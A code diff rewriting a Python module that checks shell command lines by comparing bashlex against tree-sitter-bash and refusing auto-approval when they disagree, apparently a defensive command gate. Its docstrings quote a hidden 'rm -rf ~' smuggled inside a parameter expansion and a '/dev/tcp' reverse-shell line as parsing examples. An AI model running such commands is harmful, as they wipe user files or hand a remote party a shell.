@@ -1,119 +1,249 @@
-"""A second, independent parser (tree-sitter-bash) to cross-check bashlex.
+"""Cross-check bashlex against a second, independent parser (tree-sitter-bash).
 
-Both readings are reduced to *shapes*: for every simple command, where its first
-word starts and the raw text of each word. Where the shapes differ, one parser
-sees a command or an argument the other does not, and the line is not allowed
-(S05). Example: in ``echo ${x:-$(rm -rf ~)}`` only tree-sitter sees ``rm``.
+Both readings of a line are reduced to *shapes*: one per simple command, holding the
+offset of its first word and the raw source text of each word. Where the sorted shapes
+differ, one parser sees a command or an argument the other does not, and the line must
+not be auto-allowed. Example: in ``echo ${x:-$(rm -rf ~)}`` only tree-sitter sees ``rm``.
 """
 
 from __future__ import annotations
 
-from collections import Counter
+from collections.abc import Callable, Iterator
 from typing import Any
 
 import tree_sitter_bash
-from tree_sitter import Language, Parser
+from tree_sitter import Language, Node, Parser
 
-from security.shell import Command
-
-Shape = tuple[int, tuple[str, ...]]
+CommandShape = tuple[int, tuple[str, ...]]
+# (character offset where the command's first word starts, raw text of each word)
+Span = tuple[int, int]  # [start, end) in UTF-8 bytes of the line
 
 _PARSER = Parser(Language(tree_sitter_bash.language()))
-MAX_NODES = 50_000
-# Children of a test command `[ ... ]` that stand for one shell word each.
-_WORDLIKE = frozenset(
+
+# bashlex attributes that may hold child nodes (which one depends on the node's kind).
+# FunctionNode also has `name` and `body`, but they repeat members of its `parts`.
+_BASHLEX_CHILDREN = ("parts", "list", "command", "output", "heredoc", "redirects")
+
+# Normalisation: bashlex reads `[` as an ordinary command, so `[ -f x ]` is the words
+# `[`, `-f`, `x`, `]`; tree-sitter builds a test_command with an expression tree. These
+# node types are one shell word each when met while flattening that tree.
+_TEST_WORDS = frozenset(
     {"word", "string", "raw_string", "ansi_c_string", "translated_string", "number",
-     "simple_expansion", "expansion", "concatenation", "command_substitution",
-     "process_substitution", "test_operator", "arithmetic_expansion"}
+     "concatenation", "simple_expansion", "expansion", "command_substitution",
+     "process_substitution", "arithmetic_expansion", "test_operator", "regex",
+     "extglob_pattern"}
 )  # fmt: skip
 
 
-def bashlex_shapes(commands: list[Command]) -> list[Shape]:
-    """Shapes of the commands bashlex found (before any unwrapping)."""
-    return [(c.words[0].start, tuple(w.raw for w in c.words)) for c in commands if c.words]
-
-
-def treesitter_shapes(line: str) -> list[Shape] | None:
-    """Shapes of the commands tree-sitter finds; None if its tree has errors."""
-    source = line.encode("utf-8", "surrogatepass")
-    tree = _PARSER.parse(source)
-    root = tree.root_node
-    if root.has_error:
-        return None
-    to_char = _char_offsets(line, source)
-    shapes: list[Shape] = []
-    stack: list[Any] = [root]
-    visited = 0
+def bashlex_shapes(line: str, nodes: list[Any]) -> list[CommandShape]:
+    """Shapes of every simple command in bashlex's trees ``nodes`` for ``line``."""
+    shapes: list[CommandShape] = []
+    stack = list(nodes)
     while stack:
-        visited += 1
-        if visited > MAX_NODES:
-            return None
         node = stack.pop()
-        words = _command_words(node)
-        if words:
-            texts = tuple(_text(source, w) for w in words)
-            shapes.append((to_char(words[0].start_byte), texts))
+        if node.kind == "command":
+            # Normalisation: assignments and redirections are parts, but not words.
+            spans = [part.pos for part in node.parts if part.kind == "word"]
+            if spans:
+                shapes.append((spans[0][0], tuple(line[start:end] for start, end in spans)))
+        stack.extend(_bashlex_children(node))
+    return shapes
+
+
+def _bashlex_children(node: Any) -> Iterator[Any]:
+    for name in _BASHLEX_CHILDREN:
+        value = getattr(node, name, None)
+        if isinstance(value, list):
+            yield from value
+        elif hasattr(value, "kind"):  # `output` is an int for `2>&1`
+            yield value
+
+
+def treesitter_shapes(line: str) -> list[CommandShape] | None:
+    """Shapes of every simple command tree-sitter finds; None if the tree has errors."""
+    source = line.encode("utf-8", "surrogatepass")
+    root = _PARSER.parse(source).root_node
+    if root.has_error:  # covers ERROR and MISSING nodes anywhere below
+        return None
+    to_char = _char_index(line, source)
+    shapes: list[CommandShape] = []
+    strays: dict[int, list[Span]] = {}  # command node id -> words its redirects took
+    stack = [root]
+    while stack:
+        node = stack.pop()
+        if node.type == "redirected_statement":
+            _claim_strays(node, source, strays)
+        spans = [_span(word) for word in _command_words(node)] + strays.pop(node.id, [])
+        if spans:
+            chars = [(to_char(start), to_char(end)) for start, end in _merge_touching(spans)]
+            shapes.append((chars[0][0], tuple(line[start:end] for start, end in chars)))
         stack.extend(node.children)
     return shapes
 
 
-def disagreement(line: str, commands: list[Command]) -> str | None:
-    """Why bashlex's and tree-sitter's readings of ``line`` differ, or None if they agree."""
-    try:
-        theirs = treesitter_shapes(line)
-        if theirs is None:
-            return "tree-sitter-bash cannot parse the line"
-        ours = bashlex_shapes(commands)
-        only_ts = Counter(theirs) - Counter(ours)
-        only_bl = Counter(ours) - Counter(theirs)
-        if not only_ts and not only_bl:
-            return None
-        if only_ts:
-            start, words = min(only_ts)
-            return f"tree-sitter sees `{' '.join(words)[:80]}` at {start}; bashlex does not"
-        start, words = min(only_bl)
-        return f"bashlex sees `{' '.join(words)[:80]}` at {start}; tree-sitter does not"
-    except Exception as exc:  # fail closed: a broken cross-check is a disagreement
-        return f"differential check failed: {type(exc).__name__}: {exc}"
-
-
-def _command_words(node: Any) -> list[Any]:
-    """The nodes that are the words of a simple command, or [] if ``node`` is not one."""
+def _command_words(node: Node) -> list[Node]:
+    """The nodes that make up the words of the simple command ``node``; [] if not one."""
     kind = node.type
     if kind == "command":
-        fields = (node.field_name_for_child(i) for i in range(node.child_count))
-        return [c for c, f in zip(node.children, fields, strict=True) if f in ("name", "argument")]
+        # Normalisation: the `name` field wraps the first word in a command_name node
+        # of the same extent; assignment prefixes and redirections have other fields.
+        return [
+            child
+            for index, child in enumerate(node.children)
+            if node.field_name_for_child(index) in ("name", "argument")
+        ]
     if kind in ("declaration_command", "unset_command"):
-        # bashlex reads `export A=1 B` as a command with words export, A=1, B.
-        return list(node.children)
+        # Normalisation: `export X=1 Y`, `local`, `declare`, `readonly`, `unset` are
+        # ordinary commands to bashlex, with the keyword and each operand as words.
+        return [child for child in node.children if child.type != "comment"]
     if kind == "test_command" and node.children and node.children[0].type == "[":
-        # bashlex treats `[` as an ordinary command: flatten the test expression.
-        return _flatten_test(node)
+        return list(_test_words(node))
     return []
 
 
-def _flatten_test(node: Any) -> list[Any]:
-    words: list[Any] = []
+def _test_words(node: Node) -> Iterator[Node]:
+    """Flatten a `[ ... ]` expression tree into its words (see _TEST_WORDS)."""
     for child in node.children:
-        if child.type in _WORDLIKE or not child.is_named:
-            words.append(child)
+        if child.type in _TEST_WORDS or not child.is_named:
+            yield child
         else:
-            words.extend(_flatten_test(child))
+            yield from _test_words(child)
+
+
+def _span(node: Node) -> Span:
+    return node.start_byte, node.end_byte
+
+
+def _merge_touching(spans: list[Span]) -> list[Span]:
+    """The shell words that ``spans`` make up, in source order.
+
+    Normalisation: tree-sitter sometimes splits one shell word into adjacent sibling
+    nodes (`$"x"` becomes `$` and `"x"`; `x`ls`y` becomes `x` and `` `ls`y ``). Words
+    are separated by blanks or operators, so spans that touch are one word.
+    """
+    words: list[Span] = []
+    for start, end in sorted(spans):
+        if words and words[-1][1] == start:
+            words[-1] = (words[-1][0], end)
+        else:
+            words.append((start, end))
     return words
 
 
-def _text(source: bytes, node: Any) -> str:
-    return source[node.start_byte : node.end_byte].decode("utf-8", "surrogatepass")
+def _claim_strays(statement: Node, source: bytes, strays: dict[int, list[Span]]) -> None:
+    """Give the words that redirections took back to the command they belong to.
+
+    In bash, words after a redirection are arguments of the last simple command of
+    the redirected statement (`a && b >f x` runs `b x`); ``strays`` collects them.
+    """
+    taken = [span for redirect in _redirects(statement) for span in _taken(redirect, source)]
+    if taken:
+        strays.setdefault(_last_command(statement).id, []).extend(taken)
 
 
-def _char_offsets(line: str, source: bytes) -> Any:
-    """A function from UTF-8 byte offsets to string indexes."""
-    if len(source) == len(line):
-        return lambda offset: offset
-    starts: dict[int, int] = {}
-    position = 0
+def _redirects(statement: Node) -> Iterator[Node]:
+    for redirect in statement.children_by_field_name("redirect"):
+        yield redirect
+        if redirect.type == "heredoc_redirect":  # `cat <<EOF >f` nests the `>f`
+            yield from redirect.children_by_field_name("redirect")
+
+
+def _taken(redirect: Node, source: bytes) -> list[Span]:
+    """Spans of the command words that tree-sitter hung on (or lost near) ``redirect``."""
+    taken = _lost_dash(redirect, source)
+    if redirect.type == "file_redirect":
+        taken += _extra_destinations(redirect, source)
+    elif redirect.type == "heredoc_redirect":
+        # Normalisation: words after the delimiter (`cat <<EOF -`) are `argument`s
+        # of the heredoc redirect.
+        taken += [_span(a) for a in redirect.children_by_field_name("argument")]
+    return taken
+
+
+def _extra_destinations(redirect: Node, source: bytes) -> list[Span]:
+    """Normalisation: tree-sitter-bash lets a redirection take several destinations.
+
+    In `grep 2>/dev/null -q x` it hangs `-q x` on the redirect (tree-sitter-bash issue
+    #233); all but the first destination word are arguments. A number touching the
+    next redirection is that one's descriptor: `bash -i >& /dev/tcp/h/1 0>&1`.
+    """
+    following = redirect.next_sibling
+    fd_at = following.start_byte if following is not None else -1
+    spans = _merge_touching([_span(d) for d in redirect.children_by_field_name("destination")])
+    return [
+        (start, end) for start, end in spans[1:] if end != fd_at or not source[start:end].isdigit()
+    ]
+
+
+def _lost_dash(redirect: Node, source: bytes) -> list[Span]:
+    """Normalisation: tree-sitter-bash loses a lone `-` word just before some redirections.
+
+    It does in `python3 - <<'EOF'` (a common idiom) and `cat >f - 2>&1`, and lexes
+    `cat -<<EOF` as one `-<<` token. When the source between the previous node and
+    the operator is one `-`, that is a word bash sees.
+    """
+    previous = redirect.prev_sibling
+    if previous is None:
+        return []
+    operator_at = redirect.start_byte + source.startswith(b"-", redirect.start_byte)
+    gap = source[previous.end_byte : operator_at]
+    if gap.strip(b" \t") != b"-":
+        return []
+    dash = previous.end_byte + gap.index(b"-")
+    return [(dash, dash + 1)]
+
+
+def _last_command(statement: Node) -> Node:
+    """The last simple command of a redirected statement's body, else the statement.
+
+    The statement itself is visited next, so its strays still become a shape.
+    """
+    node = statement.child_by_field_name("body")
+    while node is not None and node.type in ("pipeline", "list", "negated_command"):
+        node = node.named_children[-1] if node.named_children else None
+    return node if node is not None and _command_words(node) else statement
+
+
+def _char_index(line: str, source: bytes) -> Callable[[int], int]:
+    """Map tree-sitter's UTF-8 byte offsets to indexes into ``line``."""
+    if len(source) == len(line):  # ASCII: bytes and characters coincide
+        return int
+    table: list[int] = []
     for index, char in enumerate(line):
-        starts[position] = index
-        position += len(char.encode("utf-8", "surrogatepass"))
-    starts[position] = len(line)
-    return lambda offset: starts.get(offset, offset)
+        table.extend([index] * len(char.encode("utf-8", "surrogatepass")))
+    table.append(len(line))
+    return table.__getitem__
+
+
+def disagreement(line: str, nodes: list[Any]) -> str | None:
+    """Why bashlex (``nodes``) and tree-sitter read ``line`` differently; None if they agree.
+
+    Never raises: a failure of the check itself is reported as a disagreement.
+    """
+    try:
+        theirs = treesitter_shapes(line)
+        if theirs is None:
+            return "tree-sitter could not parse the line"
+        return _compare(sorted(bashlex_shapes(line, nodes)), sorted(theirs))
+    except Exception as exc:  # fail closed
+        return f"differential check failed: {type(exc).__name__}: {exc}"
+
+
+def _compare(ours: list[CommandShape], theirs: list[CommandShape]) -> str | None:
+    if ours == theirs:
+        return None
+    only_ts = [shape for shape in theirs if shape not in ours]
+    only_bl = [shape for shape in ours if shape not in theirs]
+    if only_ts:
+        return f"tree-sitter sees a command {_show(only_ts[0])} that bashlex does not"
+    if only_bl:
+        return f"bashlex sees a command {_show(only_bl[0])} that tree-sitter does not"
+    return "the parsers see the same commands a different number of times"
+
+
+def _show(shape: CommandShape) -> str:
+    start, words = shape
+    text = " ".join(words).replace("`", "'")
+    if len(text) > 60:
+        text = text[:57] + "..."
+    return f"`{text}` at {start}"
